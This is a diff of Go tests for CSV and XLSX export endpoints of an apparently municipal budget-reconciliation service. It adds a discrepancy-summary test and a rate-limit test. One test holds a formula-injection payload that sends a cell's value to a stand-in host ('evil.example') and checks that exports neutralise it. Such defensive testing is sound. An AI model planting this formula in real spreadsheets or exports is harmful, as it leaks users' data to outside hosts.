@@ -42,12 +42,13 @@ type exportFixture struct {
 // newExportFixture is the access fixture (records and the reconciliation's
 // eleven discrepancies) with the exports over its handler, paging two rows
 // at a time, and an audit spy.
-func newExportFixture(t *testing.T, cfg graph.ExportConfig) *exportFixture {
+func newExportFixture(t *testing.T, cfg graph.ExportConfig, gcfg graph.Config) *exportFixture {
 	t.Helper()
 	spy := &auditSpy{}
 	ks := maps.Clone(keys)
 	ks["hostile-key"] = hostileAdmin
-	f := accessFixture(t, graph.Config{AuditLog: spy, Authenticate: graph.StaticKeys(ks)})
+	gcfg.AuditLog, gcfg.Authenticate = spy, graph.StaticKeys(ks)
+	f := accessFixture(t, gcfg)
 	spy.AuditLog = f.store
 	cfg.Logger = slog.New(slog.DiscardHandler)
 	if cfg.PageSize == 0 {
@@ -587,7 +588,7 @@ func wantAPBD(t *testing.T, x *exportFixture, key string, year int) ([]wantTable
 // the roles that may have it; the officer's of its area only, the analyst's
 // masked; a viewer is refused records.
 func TestExports(t *testing.T) {
-	x := newExportFixture(t, graph.ExportConfig{})
+	x := newExportFixture(t, graph.ExportConfig{}, graph.Config{})
 	for _, format := range formats {
 		t.Run("coverage by kelurahan, category and month/"+format, func(t *testing.T) {
 			want, roll := wantCoverage(t, x, "admin-key", map[string]any{"from": "2024-01", "to": "2024-06"}, []string{"KELURAHAN", "CATEGORY"}, "MONTH")
@@ -721,7 +722,7 @@ func TestExports(t *testing.T) {
 // note an admin typed, a caller's name) is quoted in both formats, and an
 // XLSX cell holding it is a string, never a formula.
 func TestExportsNeutraliseFormulas(t *testing.T) {
-	x := newExportFixture(t, graph.ExportConfig{PageSize: 1000})
+	x := newExportFixture(t, graph.ExportConfig{PageSize: 1000}, graph.Config{})
 	note := `=HYPERLINK("http://evil.example/?"&A1,"klik")`
 	_, ds, _ := wantDiscrepancies(t, x, "admin-key", map[string]any{"kinds": []string{"DOUBLE_FUNDED"}})
 	var res struct{ ResolveDiscrepancy struct{ Status string } }
@@ -769,7 +770,7 @@ func TestExportsNeutraliseFormulas(t *testing.T) {
 // status of the code; bad parameters are named; too many rows are refused
 // before they are read.
 func TestExportRefusals(t *testing.T) {
-	x := newExportFixture(t, graph.ExportConfig{MaxRows: 10})
+	x := newExportFixture(t, graph.ExportConfig{MaxRows: 10}, graph.Config{})
 	tests := []struct {
 		key, path string
 		status    int
@@ -834,5 +835,68 @@ func TestExportRefusals(t *testing.T) {
 	ex.ServeHTTP(w, req)
 	if w.Code != http.StatusServiceUnavailable || !strings.Contains(w.Body.String(), `"UNAVAILABLE"`) {
 		t.Errorf("without analytics: %d %s", w.Code, w.Body)
+	}
+}
+
+// TestExportDiscrepancySummary: open discrepancies by kind with the rupiah
+// at stake, for a viewer (the city) and an officer (its area), against
+// discrepancyCounts.
+func TestExportDiscrepancySummary(t *testing.T) {
+	x := newExportFixture(t, graph.ExportConfig{}, graph.Config{})
+	for _, format := range formats {
+		for _, tc := range []struct{ key, by, area string }{
+			{"viewer-key", "dashboard (VIEWER)", "Wilayah: 3672 Kota Cilegon (seluruh kota)"},
+			{"officer-key", "camat-cibeber (OFFICER, wilayah 367201 Cibeber)", "Wilayah: 367201 Cibeber (wilayah pengguna)"},
+		} {
+			var ans struct {
+				Coverage          struct{ Rollup apiRollup }
+				DiscrepancyCounts struct {
+					Total  int64
+					ByKind []struct {
+						Kind          string
+						Count, Amount int64
+					}
+				}
+			}
+			x.ask(t, tc.key, `{ coverage { rollup { version asOf } } discrepancyCounts(filter: {statuses: [OPEN], severities: [HIGH, MEDIUM]}) { total byKind { kind count amount } } }`, nil, &ans)
+			want := wantTable{cols: []wantCol{{"Jenis", kText}, {"Uraian jenis", kText}, {"Jumlah temuan", kNum}, {"Nilai (Rp)", kNum}}}
+			var sum int64
+			for _, k := range ans.DiscrepancyCounts.ByKind {
+				want.rows = append(want.rows, []any{k.Kind, kindWords[k.Kind], k.Count, k.Amount})
+				sum += k.Amount
+			}
+			want.rows = append(want.rows, []any{nil, "Jumlah", ans.DiscrepancyCounts.Total, sum})
+			if len(want.rows) < 3 || sum == 0 {
+				t.Fatalf("%s: the fixture's counts are too small to test: %+v", tc.key, ans)
+			}
+			w := x.get(t, tc.key, "/export/discrepancy-summary."+format+"?statuses=OPEN&severities=HIGH,MEDIUM")
+			rep := parse(t, format, w.Body.Bytes())
+			checkHead(t, w, format, "discrepancy-summary", rep, "Ringkasan temuan rekonsiliasi", ans.Coverage.Rollup, tc.by,
+				"Status: terbuka", "Tingkat: tinggi, sedang", tc.area)
+			check(t, format, "discrepancy-summary", rep.tables[0], want)
+		}
+	}
+}
+
+// TestExportWaitsOutTheRateLimit: the pages of an export count against the
+// caller's rate like any request; past the first, a 429 is waited out
+// (Retry-After), so the export completes, slower; a first request refused
+// is answered 429 with Retry-After.
+func TestExportWaitsOutTheRateLimit(t *testing.T) {
+	x := newExportFixture(t, graph.ExportConfig{PageSize: 3}, graph.Config{RateLimit: graph.RateLimit{Rate: 4, Burst: 2}})
+	start := time.Now()
+	w := x.get(t, "admin-key", "/export/discrepancies.csv") // 4 pages, 2 tokens
+	if w.Code != http.StatusOK {
+		t.Fatalf("%d %s", w.Code, w.Body)
+	}
+	if rows := len(parseCSV(t, w.Body.Bytes()).tables[0]) - 1; rows != 11 || time.Since(start) < 400*time.Millisecond {
+		t.Errorf("%d rows in %s, want 11 after waiting", rows, time.Since(start))
+	}
+	for range 3 {
+		x.get(t, "officer-key", "/export/apbd.csv?year=2024") // 403s, each a token
+	}
+	w = x.get(t, "officer-key", "/export/discrepancies.csv")
+	if w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") == "" || !strings.Contains(w.Body.String(), "RATE_LIMITED") {
+		t.Errorf("a caller out of tokens: %d %v %s", w.Code, w.Header(), w.Body)
 	}
 }
